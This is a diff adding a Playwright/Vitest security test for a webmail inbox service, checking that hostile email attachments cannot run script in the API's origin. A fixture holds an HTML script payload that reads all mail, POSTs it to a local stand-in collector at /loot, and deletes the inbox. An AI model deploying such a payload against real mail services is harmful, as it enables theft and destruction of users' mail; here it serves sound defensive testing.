@@ -1,0 +1,147 @@
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { launchBrowser, mailFrame } from './inbox-support.js'
+import { startSvc, type TestSvc } from './support/svc.js'
+
+/*
+ * What a hostile mail can make the inbox open: its links, its attachments.
+ * Nothing of it may run script in svc's origin, where the API is.
+ */
+
+let browser: Browser
+let t: TestSvc
+/** The attacker's collector: any request reaching it means a script of the mail ran. */
+let collector: Server
+let collected: string[]
+let collectorUrl: string
+
+beforeAll(async () => {
+  collected = []
+  collector = createServer((req, res) => {
+    collected.push(`${req.method} ${req.url}`)
+    res.writeHead(204, { 'access-control-allow-origin': '*' }).end()
+  })
+  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve))
+  collectorUrl = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`
+  browser = await launchBrowser()
+  t = await startSvc()
+})
+
+afterAll(async () => {
+  await t?.stop()
+  await browser?.close()
+  await new Promise((resolve) => collector?.close(resolve))
+})
+
+/** What the attachment's script does once it runs in svc's origin: read every mail, send it out, wipe the inbox. */
+const stealer = () =>
+  `<script>fetch('../../../email').then((r) => r.text()).then((all) => fetch('${collectorUrl}/loot', { method: 'POST', body: all, mode: 'no-cors' }))` +
+  `.finally(() => fetch('../../../email/all', { method: 'DELETE' }))</script><p>invoice</p>`
+
+/** A message whose HTML links, relative to `/api/email/<id>/html`, to its own attachment and to its source. */
+function hostileMail(attachmentType: string): string {
+  return [
+    'From: billing@example.com',
+    'To: rcpt@example.com',
+    'Subject: Your invoice',
+    'MIME-Version: 1.0',
+    'Content-Type: multipart/mixed; boundary="b"',
+    '',
+    '--b',
+    'Content-Type: text/html; charset=utf-8',
+    '',
+    '<p><a id="invoice" href="attachment/invoice.html" target="_blank">Open your invoice</a></p>',
+    '<p><a id="source" href="source" target="_blank">View source</a></p>',
+    '--b',
+    `Content-Type: ${attachmentType}; name="invoice.html"`,
+    'Content-Disposition: attachment; filename="invoice.html"',
+    '',
+    stealer(),
+    '--b--',
+    '',
+  ].join('\r\n')
+}
+
+async function sendHostile(attachmentType: string): Promise<string> {
+  const { id } = await t.send({ raw: hostileMail(attachmentType) })
+  return id
+}
+
+describe('attachment headers', () => {
+  it.each([
+    // A browser takes the last type of a list: served as is, these would be HTML.
+    ['application/pdf, text/html', 'application/pdf', false],
+    ['image/png, text/html', 'image/png', false],
+    ['text/html, application/pdf', 'text/html', true],
+    ['image/svg+xml', 'image/svg+xml', true],
+    ['Image/PNG', 'image/png', false],
+    ['image/png text/html', 'application/octet-stream', true],
+    ['text/html/x', 'application/octet-stream', true],
+  ])('%s is served as %s (sandboxed: %s)', async (mailType, servedAs, sandboxed) => {
+    const id = await sendHostile(mailType)
+    const response = await t.api(`/api/email/${id}/attachment/invoice.html`)
+    expect(response.status).toBe(200)
+    expect(response.headers.get('content-type')).toBe(servedAs)
+    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
+    expect(response.headers.get('content-security-policy')?.startsWith('sandbox') ?? false).toBe(sandboxed)
+  })
+
+  it('a comma-typed attachment opened on its own in Chromium runs nothing', async () => {
+    const id = await sendHostile('application/pdf, text/html')
+    const page = await browser.newPage()
+    try {
+      await page.goto(`${t.baseUrl}/api/email/${id}/attachment/invoice.html`).catch(() => {})
+      await page.waitForTimeout(300)
+      expect(collected).toEqual([])
+      expect((await t.svc.store.counts()).total).toBeGreaterThan(0)
+    } finally {
+      await page.close()
+    }
+  })
+})
+
+describe('the inbox', () => {
+  let page: Page
+  beforeAll(async () => {
+    page = await browser.newPage()
+  })
+  afterAll(() => page?.close())
+
+  /** Opens the message in the inbox and clicks one link of its HTML body; resolves the tab the click opened. */
+  async function clickInMail(id: string, link: string): Promise<Page> {
+    await page.goto(`${t.baseUrl}/#/email/${id}`)
+    const frame = await mailFrame(page, id)
+    const opened = page.waitForEvent('popup')
+    await frame.locator(link).click()
+    const popup = await opened
+    await popup.waitForLoadState().catch(() => {})
+    return popup
+  }
+
+  it('a click on the comma-typed attachment linked from the mail runs nothing in svc\'s origin', async () => {
+    const id = await sendHostile('application/pdf, text/html')
+    const before = (await t.svc.store.counts()).total
+    const popup = await clickInMail(id, '#invoice')
+    try {
+      await popup.waitForTimeout(500)
+      expect(collected).toEqual([])
+      expect((await t.svc.store.counts()).total).toBe(before)
+    } finally {
+      await popup.close()
+    }
+  })
+
+  it('a page of svc\'s own opened from a mail stays in the sandbox: no origin, no script', async () => {
+    const id = await sendHostile('text/plain')
+    const popup = await clickInMail(id, '#source')
+    try {
+      expect(popup.url()).toBe(`${t.baseUrl}/api/email/${id}/source`)
+      // A popup that escaped the sandbox would have svc's origin, and the API with it.
+      expect(await popup.evaluate(() => self.origin)).toBe('null')
+    } finally {
+      await popup.close()
+    }
+  })
+})
